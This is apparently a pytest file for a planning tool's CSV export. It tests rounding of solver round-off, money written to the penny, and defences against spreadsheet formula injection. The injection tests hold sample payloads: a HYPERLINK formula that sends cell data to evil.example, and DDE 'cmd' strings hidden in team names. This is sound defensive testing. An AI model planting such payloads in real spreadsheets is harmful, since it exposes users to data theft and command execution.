"""The CSV a spreadsheet user downloads: solver round-off is not written out, and no text of a
config (a team id, a name) can run as a formula or start a row of its own."""

from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pytest

from homeward.exports import FORMULA_STARTS, csv_text, tidy, without_round_off


def test_solver_round_off_is_written_as_a_spreadsheet_shows_it() -> None:
    frame = pd.DataFrame(
        {
            "capital_gbp": [1013778.0000000001, 110133.29999999999, 1.4551915228366852e-11],
            "dual": [-3.2e-12, 0.000123456789123, math.nan],
            "period": [0, 1, 2],
            "ds": pd.to_datetime(["2026-01-05", "2026-01-12", "2026-01-19"]),
        }
    )
    text = csv_text(frame)
    assert text.splitlines() == [
        "capital_gbp,dual,period,ds",
        "1013778.0,0.0,0,2026-01-05",
        "110133.3,0.0001234567891,1,2026-01-12",
        "0.0,,2,2026-01-19",
    ]
    assert frame["capital_gbp"].iloc[0] == 1013778.0000000001  # the caller's frame is unchanged
    assert tidy(frame)["period"].tolist() == [0, 1, 2]


def test_round_off_in_money_is_judged_against_the_largest_figure_in_its_column() -> None:
    """A budget spent to the penny leaves -1.06e-09 GBP of headroom beside millions: written
    0.0, not -1.062289812e-09 (an overspend, to a spreadsheet reader). Other columns may mix
    units or scales (a small forecast beside a large one), so they keep small figures."""
    frame = pd.DataFrame(
        {
            "headroom_gbp": [-1.0622898e-09, 2_500_000.0, 12.5],
            "dual": [3.5e-07, 1.25e-06, 0.0],
            "mean": [2.5e-06, 2_500_000.0, 0.0],
        }
    )
    assert csv_text(frame).splitlines()[1:] == [
        "0.0,3.5e-07,2.5e-06",
        "2500000.0,1.25e-06,2500000.0",
        "12.5,0.0,0.0",
    ]
    # above a penny and still round-off beside billions: -GBP 0.5 is no overspend
    money = pd.DataFrame({"headroom_gbp": [-0.5, 2_500_000_000.0], "cost_gbp": [-0.5, 12.5]})
    assert csv_text(money).splitlines()[1:] == ["0.0,-0.5", "2500000000.0,12.5"]


def test_round_off_within_the_solvers_tolerance_is_written_as_0() -> None:
    """HiGHS holds a constraint to 1e-7 (its feasibility tolerance): a team's hours at a
    limit of 0 came out as 3.07e-09 and 1.9e-08 hours in binding.csv and risk_periods.csv,
    written out as such though README promises round-off is written as 0."""
    frame = pd.DataFrame(
        {
            "activity": [3.072500476012e-09, -1.909677394e-08, 2.5e-07],
            "idle_paid_hours_used": [1.909700131e-08, 203.3664643, 0.0],
        }
    )
    assert csv_text(frame).splitlines()[1:] == [
        "0.0,0.0",
        "0.0,203.3664643",
        "2.5e-07,0.0",
    ]


def test_figures_among_text_are_rounded_as_a_float_columns_are() -> None:
    """A plan summary's `value` column holds text, whole numbers and figures, so it was no
    float column and kept every digit: 505318.33280231623 days, GBP 6098600.899999998."""
    frame = pd.DataFrame(
        {
            "figure": ["status", "plan_id", "weighted_wait_days", "staff_cost_gbp", "gap", "x"],
            "value": ["optimal", 12, 505318.33280231623, 6098600.899999998, 3.1e-09, None],
        }
    )
    assert csv_text(frame).splitlines()[1:] == [
        "status,optimal",
        "plan_id,12",
        "weighted_wait_days,505318.3328",
        "staff_cost_gbp,6098600.9",
        "gap,0.0",
        "x,",
    ]
    assert frame["value"].iloc[2] == 505318.33280231623  # the caller's frame is unchanged


def test_a_change_is_round_off_only_beside_the_figures_it_is_between() -> None:
    assert without_round_off(-3.7e-09, 4_100_000.0, 4_100_000.0) == 0.0
    assert without_round_off(-1.1e-13, 0.0) == 0.0
    assert without_round_off(-0.01, 4_100_000.0) == -0.01
    assert without_round_off(2e-09, 0.5, 0.5) == 2e-09  # small figures: a change of 2e-09 of 1


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("https://evil.example/?d="&A2,"Open")', "'=HYPERLINK("),
        ("+SUM(1,1)", "'+SUM(1,1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)"),
        ("\t=2+2", "'\t=2+2"),
        ("\r=3+3", "'\r=3+3"),
        ("north", "north"),
    ],
)
def test_text_a_spreadsheet_would_run_is_written_as_text(text: str, written: str) -> None:
    """OWASP's advice: a `'` before a text cell starting = + - @, a tab or a carriage return
    (a spreadsheet shows it as written; Python's csv reader gives it with the `'`)."""
    rows = _cells(csv_text(pd.DataFrame({"team": [text], "hours": [1.5]})))
    assert rows[0] == ["team", "hours"] and len(rows) == 2
    assert rows[1][0].startswith(written) and rows[1][0].endswith(text[1:])
    assert rows[1][0] in (text, "'" + text)


def test_a_carriage_return_inside_a_cell_is_quoted_so_it_starts_no_row() -> None:
    """Python's csv quotes only for its line terminator's characters, `\\n` here: a bare
    `\\r` was written unquoted and read as a new row holding `=cmd|...` in column A."""
    frame = pd.DataFrame(
        {
            "team": ["north\r=cmd|' /C calc'!A0", "a\r\nb", "c\nd", "plain"],
            "hours": [1.0, 2.0, 3.0, 4.0],
        }
    )
    text = csv_text(frame)
    assert _cells(text) == [
        ["team", "hours"],
        ["north\r=cmd|' /C calc'!A0", "1.0"],
        ["a\r\nb", "2.0"],
        ["c\nd", "3.0"],
        ["plain", "4.0"],
    ]
    assert text.endswith('"c\nd",3.0\nplain,4.0\n')  # rows still end in \\n alone


def test_numbers_keep_their_sign_and_their_form() -> None:
    """A negative figure stays a number (a real backtest's total_error_q10 of -0.09), in a
    float column or as text among others (a summary's `value`), and a frame without text to
    change is written as before."""
    frame = pd.DataFrame(
        {
            "unique_id": ["referrals/ot/rugby", "referrals/ot/warwick"],
            "total_error_q10": [-0.09, -0.01561852192],
            "value": ["-0.09", -3],
            "period": [-1, 2],
        }
    )
    assert csv_text(frame).splitlines() == [
        "unique_id,total_error_q10,value,period",
        "referrals/ot/rugby,-0.09,-0.09,-1",
        "referrals/ot/warwick,-0.01561852192,-3,2",
    ]


def test_no_cell_of_a_written_frame_starts_as_a_formula_unless_it_is_a_number() -> None:
    payloads = ["=1+1", "\t=1", "\r-9+9", "@x", "+x", "-x", "-1.5e-3", "ok\r=2"]
    text = csv_text(pd.DataFrame({"a": payloads, "b": [-1.25] * len(payloads)}))
    rows = _cells(text)[1:]
    assert len(rows) == len(payloads)
    for cell in (c for row in rows for c in row):
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # a number (-1.5e-3, -1.25), never text to run


def test_money_is_written_to_the_penny_whatever_its_size() -> None:
    """10 significant digits wrote a revenue budget of GBP 214,419,752.56 as 214419752.6, so
    net cost and unspent budget no longer added up to it, and figures of GBP 1e12 pounds out.
    Money (a column ending `_gbp` or `_gbp_change`) is written to the penny, without a sum's
    float noise; hours keep 10 significant digits."""
    frame = pd.DataFrame(
        {
            "revenue_budget_gbp": [214_419_752.56, 1_000_000_000_123.47, 2063305.0000000005],
            "net_revenue_cost_gbp_change": [-214_419_752.56, 0.1 + 0.2, -0.004],
            "hours": [214_419_752.56, 1.2345678912345, 0.0],
        }
    )
    assert csv_text(frame).splitlines()[1:] == [
        "214419752.56,-214419752.56,214419752.6",
        "1000000000123.47,0.3,1.234567891",
        "2063305.0,0.0,0.0",
    ]


def test_a_summary_writes_its_money_rows_to_the_penny() -> None:
    """summary.csv is `figure,value` rows: a row whose figure is money (`revenue_budget_gbp`,
    `net_revenue_cost_gbp[2027-28]`) to the penny, so net cost and unspent budget add up to
    the budget as written; other figures to 10 significant digits, as before."""
    budget, net, unspent = 214_419_752.56, 214_419_700.25, 52.31
    frame = pd.DataFrame(
        {
            "figure": [
                "revenue_budget_gbp[2027-28]",
                "net_revenue_cost_gbp[2027-28]",
                "unspent_budget_gbp[2027-28]",
                "staff_hours",
                "staff_cost_gbp",
            ],
            "value": [budget, net, unspent, 214_419_752.56, 6098600.8999999985],
            "unit": ["GBP", "GBP", "GBP", "hours", "GBP"],
        }
    )
    rows = _cells(csv_text(frame))[1:]
    assert [r[1] for r in rows] == [
        "214419752.56",
        "214419700.25",
        "52.31",
        "214419752.6",
        "6098600.9",
    ]
    pence = [round(float(r[1]) * 100) for r in rows[:3]]
    assert pence[1] + pence[2] == pence[0]


def test_a_revenue_rows_headroom_is_its_budget_less_its_net_cost_as_written() -> None:
    """Each cell rounded alone, GBP 1000.006 less 500.004 was written 1000.01 less 500.00
    leaving 500.00: a spreadsheet's check of each row (budget - net cost = headroom) failed by
    a penny. The headroom written is the budget written less the net cost written."""
    frame = pd.DataFrame(
        {
            "ds": ["2026-04-06", "2026-04-13", "2026-04-20"],
            "budget_gbp": [1000.006, 20_547.945205479453, 5000.0],
            "net_cost_gbp": [500.004, 20_000.004999, 5000.000000001],
            "headroom_gbp": [500.002, 547.940206479453, -0.000000001],
        }
    )
    rows = _cells(csv_text(frame))[1:]
    pence = [[round(float(cell) * 100) for cell in row[1:]] for row in rows]
    assert [budget - net - left for budget, net, left in pence] == [0, 0, 0]
    assert rows[0][1:] == ["1000.01", "500.0", "500.01"]
    assert rows[2][1:] == ["5000.0", "5000.0", "0.0"]  # round-off beside the budget: none left


@pytest.mark.parametrize("year_gbp", [777_777.77, 987_654.32, 1_234_567.89])
def test_a_plans_revenue_rows_by_year_add_up_to_the_penny_as_written(year_gbp: float) -> None:
    """A year's budget shared out over weeks by their days, as a plan's revenue.csv writes
    its rows: each row's budget less its net cost is its headroom, in pennies (the first two
    years' amounts left a week a penny out)."""
    import optimise
    from tests.optimise.factory import inputs_of, rich_config, rich_demand

    raw = rich_config(revenue_budget_gbp_per_period=None, horizon_periods=6)
    raw["revenue_budget_gbp_by_year"] = {"2024-25": year_gbp}
    result = optimise.plan(inputs_of(raw, rich_demand()), simulation_runs=0)
    for table in (result.revenue, result.revenue_by_budget, result.revenue_by_year):
        rows = list(csv.DictReader(io.StringIO(csv_text(table))))
        pence = [
            {c: round(float(row[c]) * 100) for c in ("budget_gbp", "net_cost_gbp", "headroom_gbp")}
            for row in rows
        ]
        assert [p["budget_gbp"] - p["net_cost_gbp"] - p["headroom_gbp"] for p in pence] == [
            0
        ] * len(rows)
